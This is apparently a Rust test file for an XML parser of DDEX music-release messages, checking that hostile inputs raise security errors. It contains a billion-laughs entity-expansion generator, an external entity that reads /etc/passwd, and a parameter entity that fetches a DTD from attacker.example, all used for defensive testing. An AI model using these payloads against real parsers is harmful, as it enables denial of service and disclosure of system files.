//! Hostile input: entity expansion, external entities, deep nesting

use ernkit::core::SecurityViolation;
use ernkit::{canonicalize, parse, parse_document, sanity_check, DomParser, ErnError, ParseLimits};

fn billion_laughs(levels: usize) -> String {
    let mut xml = String::from("<?xml version=\"1.0\"?>\n<!DOCTYPE NewReleaseMessage [\n  <!ENTITY lol0 \"lol\">\n");
    for i in 1..=levels {
        xml.push_str(&format!(
            "  <!ENTITY lol{} \"{}\">\n",
            i,
            format!("&lol{};", i - 1).repeat(10)
        ));
    }
    xml.push_str(&format!(
        "]>\n<ern:NewReleaseMessage xmlns:ern=\"http://ddex.net/xml/ern/43\"><MessageHeader><MessageId>&lol{};</MessageId></MessageHeader></ern:NewReleaseMessage>",
        levels
    ));
    xml
}

fn nested(depth: usize) -> String {
    let mut xml = String::from("<ern:NewReleaseMessage xmlns:ern=\"http://ddex.net/xml/ern/43\">");
    xml.push_str(&"<a>".repeat(depth));
    xml.push_str(&"</a>".repeat(depth));
    xml.push_str("</ern:NewReleaseMessage>");
    xml
}

#[test]
fn billion_laughs_is_a_security_error() {
    let xml = billion_laughs(9);
    assert!(xml.len() < 10 * 1024);
    for result in [
        parse(xml.as_bytes()).map(|_| ()),
        parse_document(xml.as_bytes()).map(|_| ()),
        canonicalize(xml.as_bytes()).map(|_| ()),
    ] {
        assert!(matches!(
            result,
            Err(ErnError::Security(SecurityViolation::EntityExpansion { .. }))
        ));
    }
}

#[test]
fn small_entities_still_expand() {
    let xml = billion_laughs(2);
    let document = parse_document(xml.as_bytes()).unwrap();
    let id = document
        .root
        .find(&["MessageHeader", "MessageId"])
        .and_then(|e| e.text())
        .unwrap()
        .to_string();
    assert_eq!(id, "lol".repeat(100));
}

#[test]
fn external_entity_is_rejected() {
    let xml = r#"<?xml version="1.0"?>
<!DOCTYPE NewReleaseMessage [ <!ENTITY xxe SYSTEM "file:///etc/passwd"> ]>
<ern:NewReleaseMessage xmlns:ern="http://ddex.net/xml/ern/43"><MessageHeader><MessageId>&xxe;</MessageId></MessageHeader></ern:NewReleaseMessage>"#;
    assert!(matches!(
        parse(xml.as_bytes()),
        Err(ErnError::Security(SecurityViolation::ExternalEntity(name))) if name == "xxe"
    ));
}

#[test]
fn parameter_entity_is_rejected() {
    let xml = r#"<!DOCTYPE NewReleaseMessage [ <!ENTITY % remote SYSTEM "http://attacker.example/x.dtd"> %remote; ]>
<ern:NewReleaseMessage xmlns:ern="http://ddex.net/xml/ern/43"/>"#;
    assert!(matches!(
        parse(xml.as_bytes()),
        Err(ErnError::Security(SecurityViolation::ParameterEntity(_)))
    ));
}

#[test]
fn entity_with_markup_is_rejected() {
    let xml = r#"<!DOCTYPE NewReleaseMessage [ <!ENTITY inject "<Deal/>"> ]>
<ern:NewReleaseMessage xmlns:ern="http://ddex.net/xml/ern/43"><DealList>&inject;</DealList></ern:NewReleaseMessage>"#;
    assert!(matches!(
        parse(xml.as_bytes()),
        Err(ErnError::Syntax { .. })
    ));
}

#[test]
fn nesting_depth_is_bounded() {
    let deep = nested(600);
    assert!(matches!(
        parse(deep.as_bytes()),
        Err(ErnError::Security(SecurityViolation::NestingDepth { limit: 512 }))
    ));
    assert!(!sanity_check(deep.as_bytes()).is_valid);

    let shallow = nested(100);
    assert!(parse_document(shallow.as_bytes()).is_ok());

    let strict = ParseLimits {
        max_depth: 50,
        ..ParseLimits::default()
    };
    assert!(matches!(
        DomParser::with_limits(strict).parse(shallow.as_bytes()),
        Err(ErnError::Security(SecurityViolation::NestingDepth { limit: 50 }))
    ));
}

#[test]
fn security_errors_are_not_internal() {
    let err = parse(billion_laughs(9).as_bytes()).unwrap_err();
    assert!(!err.is_internal());
}
